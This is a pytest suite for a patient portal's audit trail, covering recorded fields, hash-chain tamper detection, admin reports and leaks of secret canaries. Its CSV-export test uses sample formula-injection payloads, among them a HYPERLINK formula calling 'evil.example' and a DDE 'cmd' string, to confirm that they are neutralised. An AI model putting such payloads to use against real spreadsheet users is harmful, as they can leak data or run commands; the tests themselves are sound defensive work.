"""SECURITY.md §6: what is recorded and with which fields (§27), append-only and hash-chained (§28),
the admin report, CSV export and the patient's access history (§29), and canaries (§30)."""

from __future__ import annotations

import csv
import io
import logging
import re
from datetime import date, datetime, timedelta, timezone

import pyotp
import pytest
import time_machine
from sqlalchemy import select, text
from sqlalchemy.exc import DBAPIError

from portal.audit import services as audit_services
from portal.core.audit import AuditEvent
from portal.core.audit import EventTag, record_event, verify_chain
from portal.core.db import utcnow
from tests.conftest import PASSWORD, sign_in_session
from tests.security.helpers import dump_text, form_csrf, sign_in_with_password, submit_code

UA = "SecuritySuite/1.0 (audit fields)"


def _events(db, action, **where):
    db.session.flush()
    stmt = select(AuditEvent).where(AuditEvent.action == action)
    for k, v in where.items():
        stmt = stmt.where(getattr(AuditEvent, k) == v)
    return db.session.execute(stmt.order_by(AuditEvent.id)).scalars().all()


def _check_fields(ev, *, actor, outcome="success", response=None, ip="127.0.0.1", patient=None, object_type=None,
                  object_id=None):
    assert ev.actor_id == actor.id and ev.actor_role == actor.role
    assert ev.outcome == outcome
    assert ev.ip == ip
    assert ev.user_agent == UA
    assert ev.request_id and re.fullmatch(r"[A-Za-z0-9-]{8,64}", ev.request_id)
    if response is not None:
        assert ev.request_id == response.headers["X-Request-ID"]
    assert ev.occurred_at.tzinfo is not None and ev.occurred_at.utcoffset() == timedelta(0)
    assert abs(utcnow() - ev.occurred_at) < timedelta(minutes=5)
    if patient is not None:
        assert ev.patient_id == patient.id
    if object_type is not None:
        assert ev.object_type == object_type and ev.object_id == object_id
    assert ev.row_hash and ev.prev_hash


# --- what is recorded ---------------------------------------------------------------------------

def test_signin_failure_and_success_and_mfa_events(app, db, make_user):
    user = make_user("patient")
    client = app.test_client()
    client.environ_base["HTTP_USER_AGENT"] = UA
    r = sign_in_with_password(client, user.email, "wrong password entirely")
    _check_fields(_events(db, "auth.signin.failure", actor_id=user.id)[-1], actor=user, outcome="failure", response=r)
    r = sign_in_with_password(client, user.email, PASSWORD)
    _check_fields(_events(db, "auth.signin.success", actor_id=user.id)[-1], actor=user, response=r)
    r = submit_code(client, "000000" if pyotp.TOTP(user._totp_secret).now() != "000000" else "111111")
    _check_fields(_events(db, "auth.mfa.failure", actor_id=user.id)[-1], actor=user, outcome="failure", response=r)
    r = submit_code(client, pyotp.TOTP(user._totp_secret).now())
    _check_fields(_events(db, "auth.mfa.success", actor_id=user.id)[-1], actor=user, response=r)
    r = client.post("/signout", data={"csrf_token": form_csrf(client.get("/home").get_data(as_text=True))})
    _check_fields(_events(db, "auth.signout", actor_id=user.id)[-1], actor=user, response=r)


def test_unknown_account_failure_is_recorded_without_an_actor(app, db):
    client = app.test_client()
    client.environ_base["HTTP_USER_AGENT"] = UA
    sign_in_with_password(client, "nobody@test.example", "whatever it is 123")
    ev = _events(db, "auth.signin.failure")[-1]
    assert ev.actor_id is None and ev.outcome == "failure" and ev.ip == "127.0.0.1" and ev.user_agent == UA
    assert "nobody@test.example" not in (ev.detail or "")


def test_mfa_enrolment_and_reset_events(app, db, make_user, login_as):
    user = make_user("patient", mfa=False)
    client = app.test_client()
    client.environ_base["HTTP_USER_AGENT"] = UA
    sign_in_session(client, user, mfa_done=False)
    page = client.get("/signin/setup").get_data(as_text=True)
    secret = re.search(r'data-secret="([A-Z2-7]+)"', page).group(1)
    r = client.post("/signin/setup", data={"csrf_token": form_csrf(page), "code": pyotp.TOTP(secret).now()})
    assert r.status_code == 200
    _check_fields(_events(db, "auth.mfa.enrolled", actor_id=user.id)[-1], actor=user, response=r)

    support, staff_user = login_as("support")
    support.environ_base["HTTP_USER_AGENT"] = UA
    pid = user._patient.public_id
    page = support.get(f"/support/patients/{pid}").get_data(as_text=True)
    r = support.post(f"/support/patients/{pid}/mfa-reset", data={
        "csrf_token": form_csrf(page), "method": "video_call_with_id", "birth_date_confirmed": "y"})
    assert r.status_code == 302
    ev = _events(db, "auth.mfa.reset", actor_id=staff_user.id)[-1]
    _check_fields(ev, actor=staff_user, response=r, patient=user._patient, object_type="user",
                  object_id=user.public_id)
    assert "video_call_with_id" in ev.detail


def test_password_change_and_role_change_events(app, db, make_user, login_as):
    client, user = login_as("patient")
    client.environ_base["HTTP_USER_AGENT"] = UA
    page = client.get("/account/password").get_data(as_text=True)
    r = client.post("/account/password", data={"csrf_token": form_csrf(page), "current_password": PASSWORD,
                                               "password": "a brand new passphrase for 2026"})
    assert r.status_code == 302
    _check_fields(_events(db, "account.password.changed", actor_id=user.id)[-1], actor=user, response=r)

    admin, admin_user = login_as("admin")
    admin.environ_base["HTTP_USER_AGENT"] = UA
    target = make_user("billing")
    page = admin.get("/admin/staff").get_data(as_text=True)
    r = admin.post(f"/admin/staff/{target.public_id}/role", data={"csrf_token": form_csrf(page), "role": "support",
                                                                     "confirmed": "1"})
    assert r.status_code == 302
    ev = _events(db, "account.role.changed", actor_id=admin_user.id)[-1]
    _check_fields(ev, actor=admin_user, response=r, object_type="user", object_id=target.public_id)
    assert '"from":"billing"' in ev.detail and '"to":"support"' in ev.detail


def test_patient_data_views_are_recorded_with_category(app, db, login_as):
    client, user = login_as("patient")
    client.environ_base["HTTP_USER_AGENT"] = UA
    r = client.get("/record")
    ev = _events(db, "patient.view", actor_id=user.id)[-1]
    _check_fields(ev, actor=user, response=r, patient=user._patient, object_type="patient",
                  object_id=user._patient.public_id)
    assert ev.category == "demographics"
    support, staff_user = login_as("support")
    support.environ_base["HTTP_USER_AGENT"] = UA
    r = support.get(f"/support/patients/{user._patient.public_id}")
    # the page's own view (other domains' sections on it audit their own categories)
    ev = _events(db, "patient.view", actor_id=staff_user.id, category="demographics")[-1]
    _check_fields(ev, actor=staff_user, response=r, patient=user._patient, object_type="patient",
                  object_id=user._patient.public_id)
    assert ev.category == "demographics" and ev.actor_role == "support"


# --- append-only and the hash chain ---------------------------------------------------------------

def _seed_events(db, make_user, n=5):
    user = make_user("patient")
    for i in range(n):
        record_event(EventTag.PATIENT_VIEW, actor=user, patient=user._patient, category="demographics",
                     object_type="patient", object_id=f"obj{i}")
    db.session.commit()
    return user


def _drop_append_only_triggers(db):
    dialect = db.session.get_bind().dialect.name
    if dialect == "sqlite":
        db.session.execute(text("DROP TRIGGER audit_events_no_update"))
        db.session.execute(text("DROP TRIGGER audit_events_no_delete"))
    elif dialect == "postgresql":
        db.session.execute(text("DROP TRIGGER audit_events_no_update ON audit_events"))
    else:  # pragma: no cover
        pytest.skip(f"no trigger handling for {dialect}")


def test_chain_verifies_and_detects_tampering(app, db, make_user):
    _seed_events(db, make_user)
    checked, bad = verify_chain()
    assert checked >= 5 and bad == []
    result = app.test_cli_runner().invoke(args=["audit", "verify"])
    assert result.exit_code == 0 and "chain intact" in result.output

    ids = db.session.execute(select(AuditEvent.id).order_by(AuditEvent.id)).scalars().all()
    victim, later = ids[-3], ids[-2]
    _drop_append_only_triggers(db)  # an attacker with SQL access; the test transaction is rolled back
    db.session.execute(text("UPDATE audit_events SET outcome = 'failure' WHERE id = :id"), {"id": victim})
    checked, bad = verify_chain()
    assert bad == [victim]
    result = app.test_cli_runner().invoke(args=["audit", "verify"])
    assert result.exit_code == 1 and str(victim) in result.output

    db.session.execute(text("DELETE FROM audit_events WHERE id = :id"), {"id": later})
    checked, bad = verify_chain()
    assert victim in bad and ids[-1] in bad  # the row after the deleted one no longer links


def test_update_delete_refused_by_the_database(app, db, make_user):
    """Runs after the tampering test: the dropped triggers came back with its rollback."""
    _seed_events(db, make_user, n=2)
    dialect = db.session.get_bind().dialect.name
    statements = ["UPDATE audit_events SET outcome = 'x'", "DELETE FROM audit_events"]
    if dialect == "postgresql":
        statements.append("TRUNCATE audit_events")
    for sql in statements:
        with pytest.raises(DBAPIError) as exc:
            with db.session.begin_nested():
                db.session.execute(text(sql))
        assert "append-only" in str(exc.value), sql
    assert db.session.execute(text("SELECT count(*) FROM audit_events")).scalar_one() >= 2


def test_orm_cannot_update_audit_rows_either(app, db, make_user):
    _seed_events(db, make_user, n=1)
    ev = db.session.execute(select(AuditEvent).order_by(AuditEvent.id.desc())).scalars().first()
    with pytest.raises(DBAPIError):
        with db.session.begin_nested():
            ev.outcome = "edited"
            db.session.flush()


# --- admin report and export -----------------------------------------------------------------------

def _at(y, m, d):
    return time_machine.travel(datetime(y, m, d, 18, 0, tzinfo=timezone.utc), tick=False)


@pytest.fixture()
def history(db, make_user):
    a, b = make_user("support"), make_user("clinician")
    p1, p2 = make_user("patient")._patient, make_user("patient")._patient
    with _at(2025, 1, 10):
        record_event(EventTag.PATIENT_VIEW, actor=a, patient=p1, category="demographics")
    with _at(2025, 2, 10):
        record_event(EventTag.PATIENT_VIEW, actor=b, patient=p2, category="demographics")
    with _at(2025, 3, 10):
        record_event(EventTag.ACCOUNT_UNLOCKED, actor=a, patient=p2, object_type="user", object_id="u1")
        record_event(EventTag.ACCESS_DENIED, actor=a, object_type="patient",
                     object_id='=HYPERLINK("http://evil.example/?x="&A1)', outcome="denied")
        record_event("audit.test", actor=a, object_type="@SUM(1+1)", object_id="-2+3", outcome="+cmd")
    db.session.commit()
    return a, b, p1, p2


def test_report_filters(app, db, login_as, history):
    a, b, p1, p2 = history
    client, admin = login_as("admin")
    F = audit_services.AuditFilter
    cases = [
        (F(start=date(2025, 2, 1), end=date(2025, 2, 28)), 1),
        (F(start=date(2025, 1, 1), end=date(2025, 3, 31), actor_email=a.email), 4),
        (F(actor_email=b.email), 1),
        (F(patient_mrn=p2.mrn), 2),
        (F(actor_email=a.email, patient_mrn=p2.mrn), 1),
        (F(action="account.unlocked", start=date(2025, 3, 10), end=date(2025, 3, 10)), 1),
        (F(start=date(2025, 3, 11), end=date(2025, 3, 31)), 0),
    ]
    for f, expected in cases:
        _rows, total, _pages, _page = audit_services.report(admin, f)
        assert total == expected, f
    r = client.get("/admin/audit?start=2025-02-01&end=2025-02-28")
    assert r.status_code == 200 and re.search(r"\b1 event\b", r.get_data(as_text=True))
    r = client.get(f"/admin/audit?actor={a.email}&mrn={p2.mrn}")
    body = r.get_data(as_text=True)
    assert re.search(r"\b1 event\b", body) and "Account unlocked" in body
    r = client.get("/admin/audit?action=patient.view&start=2025-01-01&end=2025-01-31")
    assert re.search(r"\b1 event\b", r.get_data(as_text=True)) and p1.mrn in r.get_data(as_text=True)


def test_csv_export_has_header_and_neutralises_formulas(app, db, login_as, history):
    a, *_ = history
    client, admin = login_as("admin")
    evil_ua = "=cmd|' /C calc'!A0"
    anon = app.test_client()
    sign_in_with_password(anon, a.email, "wrong password here", headers={"User-Agent": evil_ua})
    r = client.get(f"/admin/audit/export.csv?actor={a.email}")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert r.headers["Content-Disposition"].startswith("attachment")
    rows = list(csv.reader(io.StringIO(r.get_data(as_text=True))))
    assert rows[0] == audit_services.CSV_COLUMNS
    assert len(rows) >= 6
    cells = [c for row in rows[1:] for c in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, dangerous
    assert any(c == "'" + evil_ua for c in cells)
    assert any(c.startswith("'=HYPERLINK") for c in cells) and "'@SUM(1+1)" in cells and "'-2+3" in cells
    assert _events(db, "audit.report.export", actor_id=admin.id)


# --- the patient's own view -----------------------------------------------------------------------------

def _record_views_table(html: str) -> str:
    m = re.search(r'<table id="record-views".*?</table>', html, re.S)
    return m.group(0) if m else ""


def test_patient_sees_staff_views_but_not_their_own(app, db, login_as):
    client, patient = login_as("patient")
    patient.display_name = "Zelda Patientname"
    support, staff_user = login_as("support")
    staff_user.display_name = "Sam Supportperson"
    db.session.commit()
    assert _record_views_table(client.get("/account").get_data(as_text=True)) == ""
    client.get("/record")
    client.get("/home")
    support.get(f"/support/patients/{patient._patient.public_id}")
    client.get("/record")
    table = _record_views_table(client.get("/account").get_data(as_text=True))
    assert "Sam Supportperson" in table and "Support staff" in table
    assert "Zelda Patientname" not in table
    # the one staff visit: its demographics view, plus one row per section of other domains that showed
    # this patient's data on that page (each audits its own category, e.g. appointments)
    assert table.count("Viewed: Contact and personal details") == 1
    body_rows = re.findall(r"<tr>.*?</tr>", table.split("<tbody>", 1)[1], re.S)
    assert body_rows and all("Support staff</td>" in row for row in body_rows)
    assert table.count("<tr>") == 1 + len(body_rows)


# --- canaries ------------------------------------------------------------------------------------------

def test_canaries_never_reach_logs_or_the_database(app, db, make_patient, login_as, mailbox, caplog):
    caplog.set_level(logging.DEBUG)
    canary_pw = "canary-Pw-7f3a9 violet tractor minutes"
    canary_pw2 = "canary-Pw-second 8c1e oak meadow lantern"
    patient = make_patient()
    db.session.commit()

    # staff issue an activation code; the patient activates with the canary password
    support, _ = login_as("support")
    page = support.get(f"/support/patients/{patient.public_id}").get_data(as_text=True)
    page = support.post(f"/support/patients/{patient.public_id}/activation",
                        data={"csrf_token": form_csrf(page)}).get_data(as_text=True)
    activation_code = re.search(r'id="activation-code">([A-Z0-9-]+)<', page).group(1)
    browser = app.test_client()
    from tests.accounts.helpers import activate

    r = activate(browser, activation_code, patient.birth_date, "canary@test.example", canary_pw)
    assert r.status_code == 302 and r.headers["Location"].endswith("/signin/setup")
    link = re.search(r"https?://\S+/activate/verify/\S+", mailbox.wait_for(1)[0].get_content()).group(0)
    assert app.test_client().get(link[link.index("/activate/"):]).status_code == 302

    # straight on to enrolment: TOTP (the canary secret), recovery codes
    page = browser.get("/signin/setup").get_data(as_text=True)
    secret = re.search(r'data-secret="([A-Z2-7]+)"', page).group(1)
    r = browser.post("/signin/setup", data={"csrf_token": form_csrf(page), "code": pyotp.TOTP(secret).now()})
    codes = re.findall(r"<code>([A-Z2-9]{4}-[A-Z2-9]{4}-[A-Z2-9]{4})</code>", r.get_data(as_text=True))
    assert len(codes) == 10

    # sign out, sign in again with a recovery code, change the password, fail once on purpose
    browser.post("/signout", data={"csrf_token": form_csrf(browser.get("/home").get_data(as_text=True))})
    sign_in_with_password(browser, "canary@test.example", canary_pw)
    submit_code(browser, codes[0], path="/signin/recovery")
    page = browser.get("/account/password").get_data(as_text=True)
    r = browser.post("/account/password", data={"csrf_token": form_csrf(page), "current_password": canary_pw,
                                                 "password": canary_pw2})
    assert r.status_code == 302
    sign_in_with_password(app.test_client(), "canary@test.example", canary_pw)  # old password: a failure
    stranger = app.test_client()  # a recovery code posted without a pending session: refused, not logged
    r = stranger.post("/signin/recovery", data={"csrf_token": form_csrf(stranger.get("/signin").get_data(as_text=True)),
                                                "code": codes[1]})
    assert r.status_code == 302 and r.headers["Location"].startswith("/signin")

    canaries = {"password": canary_pw, "new password": canary_pw2, "TOTP secret": secret,
                "TOTP secret (lower)": secret.lower(), "activation code": activation_code,
                "activation code (raw)": activation_code.replace("-", "")}
    for i, c in enumerate(codes):
        canaries[f"recovery code {i}"] = c
        canaries[f"recovery code {i} (raw)"] = c.replace("-", "")
    logs = caplog.text + "\n".join(str(r.args) for r in caplog.records)
    dump = dump_text(db)
    in_logs = {k: logs.count(v) for k, v in canaries.items() if v in logs}
    in_db = {k: dump.count(v) for k, v in canaries.items() if v in dump}
    print(f"\ncanaries: {len(canaries)}; found in logs: {sum(in_logs.values())}, in database dump: "
          f"{sum(in_db.values())} ({len(caplog.records)} log records, {len(dump)} characters dumped)")
    assert not in_logs and not in_db, (in_logs, in_db)
    mails = "\n".join(m.as_string() for m in mailbox.settle(0.2))
    assert canary_pw not in mails and secret not in mails and codes[0] not in mails
